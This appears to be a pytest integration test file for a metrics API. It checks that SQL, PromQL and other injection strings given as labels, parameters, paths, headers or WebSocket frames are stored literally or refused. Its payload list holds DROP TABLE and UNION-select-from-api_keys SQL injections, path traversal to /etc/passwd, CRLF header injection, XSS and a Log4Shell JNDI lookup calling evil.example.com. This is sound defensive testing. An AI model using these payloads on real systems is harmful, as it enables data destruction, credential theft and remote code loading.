"""SQL and PromQL where a string can go: it is stored and found as the text it is, or refused."""

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio
from conftest import execute
from httpx import AsyncClient
from integration.conftest import serving
from pushing import now_ms, push, series
from thorough import IS_THOROUGH
from websockets.asyncio.client import connect

pytestmark = pytest.mark.asyncio(loop_scope="module")

INJECTIONS = [
    "'; DROP TABLE series; --",
    "' OR '1'='1",
    "'); DELETE FROM tenants; --",
    "$$; DROP TABLE series; $$",
    "1; SELECT pg_sleep(30)",
    "' UNION SELECT digest FROM api_keys --",
    "\\'; DROP TABLE series; --",
    "%' OR metric LIKE '%",
    ":tenant OR 1=1",
    "%(tenant)s",
    "$1",
    "{0.__class__}",
    '"} or {__name__=~".+',
    '",__name__=~".+',
    'x"}[5m] offset 1d or up{a="',
    'up{host="a"} or vector(1)',
    "(a+)+$",
    ".*){1000}",
    "[[:alpha:]]",
    "a\nb",
    "a\r\nX-Injected: yes",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example.com/a}",
    "{{7*7}}",
    "\u202e",
    "🚀" * 20,
]
PARAMETERS = {
    "/v1/series": ("match", "cursor", "limit", "start", "end", "wait_for"),
    "/v1/labels": ("match", "wait_for"),
    "/v1/labels/host/values": ("match", "prefix", "limit", "wait_for"),
    "/v1/metadata": ("metric", "limit", "cursor"),
    "/v1/latest": ("match", "max_age", "precision", "wait_for"),
    "/v1/samples": ("match", "start", "end", "precision", "wait_for"),
    "/v1/range": ("match", "start", "end", "step", "fn", "by", "across", "wait_for"),
    "/v1/live/sse": ("since",),
}
NEEDED = {"match": "up", "start": "-5m", "end": "now", "step": "60"}
HEADERS = (
    "authorization",
    "x-api-key",
    "accept",
    "accept-encoding",
    "content-type",
    "if-none-match",
)
TRIED = INJECTIONS if IS_THOROUGH else INJECTIONS[::6]
EVERY_ONE = pytest.mark.parametrize("text", TRIED, ids=range(len(TRIED)))


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def client(shared_database_url: str) -> AsyncIterator[AsyncClient]:
    async with (
        serving(shared_database_url) as url,
        AsyncClient(base_url=url, timeout=30) as client,
    ):
        await push(client, series("up"), series("hidden_from_injections"))
        yield client
        assert int(execute(shared_database_url, "SELECT count(*) FROM series")) > 1
        assert execute(shared_database_url, "SELECT count(*) FROM tenants") == "1"


def quoted(text: str) -> str:
    """As a PromQL string has it."""
    return json.dumps(text, ensure_ascii=False)


@EVERY_ONE
async def test_a_label_is_the_text_it_is(client: AsyncClient, text: str) -> None:
    labels = {"host": text, "n": "1"}
    assert (await push(client, series("injected", labels=labels))).status_code == 200

    match = f"injected{{host={quoted(text)}}}"
    found = (await client.get("/v1/series", params={"match": match})).json()
    values = (await client.get("/v1/labels/host/values", params={"match": match})).json()
    latest = (await client.get("/v1/latest", params={"match": match})).json()
    missed = (await client.get("/v1/series", params={"match": f"up{{host={quoted(text)}}}"})).json()

    assert [one["labels"] for one in found["series"]] == [labels]
    assert [one["value"] for one in values["values"]] == [text]
    assert len(latest["series"]) == 1
    assert missed["series"] == []


@EVERY_ONE
async def test_a_metric_is_the_text_it_is_or_refused(client: AsyncClient, text: str) -> None:
    native = await push(client, series(text))
    line = {"metric": {"__name__": text}, "values": [1], "timestamps": [now_ms()]}
    taken = await client.post("/api/v1/import", json=line)
    found = await client.get("/v1/series", params={"match": f"{{__name__={quoted(text)}}}"})
    metadata = await client.get("/v1/metadata", params={"metric": text})

    assert native.status_code == 422
    assert taken.status_code in (204, 400)
    assert [one["metric"] for one in found.json()["series"]] == (
        [text] if taken.status_code == 204 else []
    )
    assert metadata.status_code < 500


@EVERY_ONE
async def test_a_parameter_is_accepted_or_refused(client: AsyncClient, text: str) -> None:
    for path, names in PARAMETERS.items():
        for name in names:
            answer = await client.get(path, params={**NEEDED, name: text})
            assert answer.status_code < 500, f"{path} {name}: {answer.text}"
            assert "hidden_from_injections" not in answer.text
            assert "x-injected" not in answer.headers


@EVERY_ONE
async def test_a_path_is_a_place_or_nothing(client: AsyncClient, text: str) -> None:
    for path in ("/v1/labels/{}/values", "/v1/keys/{}", "/v1/exposition/metrics/job/{}", "/{}"):
        for method in ("GET", "DELETE", "POST"):
            answer = await client.request(method, path.format(quote(text, safe="")))
            assert answer.status_code < 500, f"{method} {path}: {answer.text}"
            assert "root:" not in answer.text


@EVERY_ONE
async def test_a_header_changes_nothing(client: AsyncClient, text: str) -> None:
    sent = text.encode().replace(b"\r", b"").replace(b"\n", b"")
    for name in HEADERS:
        answer = await client.get("/v1/series?match=up", headers={name.encode(): sent})
        assert answer.status_code < 500, f"{name}: {answer.text}"
        assert "hidden_from_injections" not in answer.text


@EVERY_ONE
@pytest.mark.parametrize("field", ["id", "match", "since", "resume", "type", "delivery"])
async def test_a_frame_is_accepted_or_refused(client: AsyncClient, field: str, text: str) -> None:
    url = str(client.base_url).rstrip("/").replace("http", "ws", 1) + "/v1/live"
    async with connect(url, proxy=None) as viewer, asyncio.timeout(60):
        frame = {"type": "subscribe", "id": "a", "match": "nothing", field: text}
        await viewer.send(json.dumps(frame))
        await viewer.send(json.dumps({"type": "subscribe", "id": "last", "match": "up"}))
        told: dict[str, Any] = {}
        while told.get("id") != "last":
            told = json.loads(await viewer.recv())
            assert "hidden_from_injections" not in json.dumps(told)
            assert told.get("problem", {"status": 422})["status"] < 500

    assert told["type"] == "subscribed"
